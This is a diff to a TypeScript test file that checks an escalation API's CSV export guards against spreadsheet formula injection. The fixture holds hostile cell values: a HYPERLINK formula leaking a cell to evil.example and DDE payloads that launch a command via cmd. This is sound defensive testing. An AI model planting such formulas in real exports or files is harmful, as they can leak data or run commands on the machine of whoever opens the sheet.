@@ -2,9 +2,11 @@
 import assert from 'node:assert/strict';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { SignJWT, exportJWK, generateKeyPair, type KeyLike } from 'jose';
+import { createEscalation, transition } from '../../src/domain/escalation';
 import { entraIssuers } from '../../src/tab/api';
-import { CONTOSO, OTHER_PARTNER, PARTNER, startTabServer, type TabServer } from './fixtures';
+import { CONTOSO, ENGINEER, OTHER_PARTNER, PARTNER, startTabServer, type TabServer } from './fixtures';
 
 const APP_ID = '11111111-2222-4333-8444-555555555555';
 const HOST = 'desk.example.com';
@@ -209,6 +211,54 @@ describe('tab API', () => {
     assert.equal((await get(`/api/escalations/export?customer=${CONTOSO}`, await token({ tid: OTHER_PARTNER }))).status, 403);
     assert.equal((await get('/api/escalations/export?customer=contoso', await token())).status, 400);
     assert.equal((await get(`/api/escalations/export?customer=${CONTOSO}&format=xml`, await token())).status, 400);
+  });
+
+  it('neutralises spreadsheet formulas in the CSV export (a leading \' on = + - @, tab and CR cells)', async () => {
+    const customer = 'b0000000-0000-4000-8000-00000000b001';
+    const hostile = {
+      hyperlink: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+      dde: "=cmd|' /C calc'!A0",
+      minus: '-2+3+cmd|\' /C calc\'!A0',
+      at: '@SUM(1)',
+      tab: '\t=1+1',
+      cr: '\r=1+1',
+      plus: '+1+1',
+    };
+    const actor = { kind: 'user' as const, id: ENGINEER.id, name: hostile.at };
+    const created = createEscalation(
+      {
+        id: 'esc-formulas',
+        partnerTenantId: PARTNER,
+        ownerId: ENGINEER.id,
+        customer: { tenantId: customer, name: hostile.dde },
+        service: hostile.tab,
+        title: hostile.hyperlink,
+        description: 'formulas',
+      },
+      actor,
+      new Date(),
+    );
+    const stored = await tab.database.escalations.create(created.escalation, [created.event]);
+    const moved = transition(stored, 'triage', { actor: { ...actor, name: hostile.cr }, at: new Date() });
+    const triaged = await tab.database.escalations.update(moved.escalation, stored.version, [moved.event]);
+    const cancelled = transition(triaged, 'cancelled', { actor: { ...actor, name: hostile.plus }, at: new Date(), reason: hostile.minus });
+    await tab.database.escalations.update(cancelled.escalation, triaged.version, [cancelled.event]);
+
+    const res = await fetch(`${tab.url}/api/escalations/export?customer=${customer}&format=csv`, { headers: { authorization: `Bearer ${await token()}` } });
+    assert.equal(res.status, 200);
+    const rows = parseCsv<Record<string, string>>(await res.text(), { columns: true });
+    assert.equal(rows.length, 3);
+    const cells = rows.flatMap((r) => Object.values(r));
+    assert.deepEqual(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), [], 'no cell starts a formula');
+    const first = rows[0] ?? {};
+    assert.equal(first.title, `'${hostile.hyperlink}`);
+    assert.equal(first.customer, `'${hostile.dde}`);
+    assert.equal(first.service, `'${hostile.tab}`);
+    const byTo = new Map(rows.map((r) => [r.to, r]));
+    assert.equal(byTo.get('draft')?.actor, `'${hostile.at}`);
+    assert.equal(byTo.get('triage')?.actor, `'${hostile.cr}`);
+    assert.equal(byTo.get('cancelled')?.actor, `'${hostile.plus}`);
+    assert.equal(byTo.get('cancelled')?.reason, `'${hostile.minus}`);
   });
 
   it('knows the v1 and v2 issuers of each cloud', () => {
